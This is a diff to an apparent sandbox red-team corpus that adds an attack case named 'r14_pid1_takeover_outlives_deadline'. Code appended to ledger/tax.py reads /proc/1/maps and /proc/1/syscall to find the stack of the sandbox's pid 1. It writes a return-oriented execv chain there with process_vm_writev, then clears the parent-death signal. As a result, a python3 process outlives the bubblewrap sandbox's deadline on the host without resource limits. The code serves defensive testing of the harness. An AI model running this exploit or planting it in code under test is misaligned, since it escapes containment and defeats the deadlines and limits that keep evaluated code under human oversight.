@@ -49,6 +49,91 @@ def _(repo):
     _write_len(repo, "zzC = 0 /* a comment that\n\tspans two lines */")
 
 
+# --- 3. the sandbox outlives its deadline: code under test takes over the sandbox's pid 1 (bubblewrap's init, the
+# candidate's own uid, dumpable, without loop's rlimits since 9c87f18). process_vm_readv/writev are not refused and
+# /proc/1/syscall gives its stack pointer while it waits in wait4: the return address there is overwritten with a
+# chain of libc's own code (pop rdi/pop rsi gadgets, execv; libc's base from /proc/1/maps, execv from its .dynsym)
+# that execs python3 as pid 1; an orphan's exit wakes it. That python clears PR_SET_PDEATHSIG (bwrap's
+# --die-with-parent), so when loop kills bwrap at the wall clock pid 1 and its namespace live on, on the host, with
+# no CPU or file-size limit. Bounded here (a 90 s sleep, past the ledger's 60 s wall) so a corpus run leaves nothing behind for long --------------
+_PY_PID1 = r"""
+
+def _r14_takeover():
+    import ctypes, os, struct, time
+    libc = ctypes.CDLL(None, use_errno=True)
+
+    class iov(ctypes.Structure):
+        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+
+    def vm(fn, addr, data):
+        buf = ctypes.create_string_buffer(data, len(data)) if isinstance(data, bytes) else ctypes.create_string_buffer(data)
+        n = len(buf.raw) if isinstance(data, bytes) else data
+        local, remote = iov(ctypes.cast(buf, ctypes.c_void_p), n), iov(addr, n)
+        if fn(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) != n:
+            raise OSError(ctypes.get_errno(), "process_vm")
+        return buf.raw
+
+    def symbol(elf, name):  # a dynamic symbol's offset in the file (ELF64)
+        shoff, shentsize, shnum = struct.unpack_from("<Q", elf, 0x28)[0], *struct.unpack_from("<HH", elf, 0x3A)
+        secs = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]
+        dynsym = next(x for x in secs if x[1] == 11)
+        strtab = secs[dynsym[6]]
+        for at in range(dynsym[4], dynsym[4] + dynsym[5], 24):
+            st_name, _, _, _, st_value, _ = struct.unpack_from("<IBBHQQ", elf, at)
+            end = elf.index(b"\0", strtab[4] + st_name)
+            if elf[strtab[4] + st_name:end] == name and st_value:
+                return st_value
+
+    maps = [line.split() for line in open("/proc/1/maps").read().splitlines()]
+    code = [tuple(int(x, 16) for x in m[0].split("-")) for m in maps if "x" in m[1]]
+    lc = next(m for m in maps if m[-1].endswith("/libc.so.6") and "x" in m[1])
+    base = int(lc[0].split("-")[0], 16) - int(lc[2], 16)
+    elf = open(lc[-1], "rb").read()
+    pop_rdi, pop_rsi = base + elf.find(b"\x5f\xc3", int(lc[2], 16)), base + elf.find(b"\x5e\xc3", int(lc[2], 16))
+    ret, execv = base + elf.find(b"\xc3", int(lc[2], 16)), base + symbol(elf, b"execv")
+    sp = int(open("/proc/1/syscall").read().split()[-2], 16)
+    stack = vm(libc.process_vm_readv, sp, 512)
+    slot = next(sp + i for i in range(0, 512, 8) if any(a <= struct.unpack_from("<Q", stack, i)[0] < b for a, b in code))
+    strs = [b"/usr/bin/python3\0", b"-c\0",
+            b"import ctypes, time; ctypes.CDLL(None).prctl(1, 0); time.sleep(90)  # r14-pid1-survivor\0"]
+    data = slot + 128
+    addrs, p = [], data + 32
+    for s in strs:
+        addrs.append(p)
+        p += len(s)
+    chain = [pop_rdi, addrs[0], pop_rsi, data]
+    if (slot + 8 * len(chain) + 8) % 16 != 8:  # the stack aligned as at a call
+        chain.append(ret)
+    chain.append(execv)
+    blob = b"".join(struct.pack("<Q", x) for x in chain).ljust(128, b"\0") + struct.pack("<4Q", *addrs, 0) + b"".join(strs)
+    vm(libc.process_vm_writev, slot, blob)
+    if os.fork() == 0:  # an orphan for pid 1 to reap: its wait4 returns into the chain
+        if os.fork() == 0:
+            os._exit(0)
+        os._exit(0)
+    os.wait()
+
+
+try:  # once per run: while pid 1 is still bubblewrap
+    if open("/proc/1/cmdline", "rb").read().startswith(b"/usr/bin/bwrap"):
+        _r14_takeover()
+except Exception:
+    pass
+"""
+
+
+@attack("repo_ledger_py", "r14_pid1_takeover_outlives_deadline", "wrong_floor_half_up",
+        "# expect: stable_fail  class: escape  -- wrong_floor_half_up + code under test (ledger/tax.py at import, "
+        "while pid 1 is bwrap) takes over the sandbox's pid 1, bubblewrap's init, which runs without loop's rlimits since "
+        "9c87f18: process_vm_writev (not refused) puts a return-oriented chain of libc's code on its stack, it execs "
+        "python3, which clears PR_SET_PDEATHSIG; the grade is a timeout, and at the wall clock loop's kill leaves "
+        "pid 1 and its namespace alive on the host (here for 90 s, past the task's 60 s wall), with no CPU or file-size limit: the sandbox "
+        "outlives its attempt (SECURITY.md's (d)) (../ROUND14.md)", opened=True)
+def _(repo):
+    path = repo / "ledger" / "tax.py"
+    path.write_text(path.read_text() + _PY_PID1)
+
+
 if __name__ == "__main__":
     for n in sys.argv[1:] or list(ATTACKS):
         print(build(n))
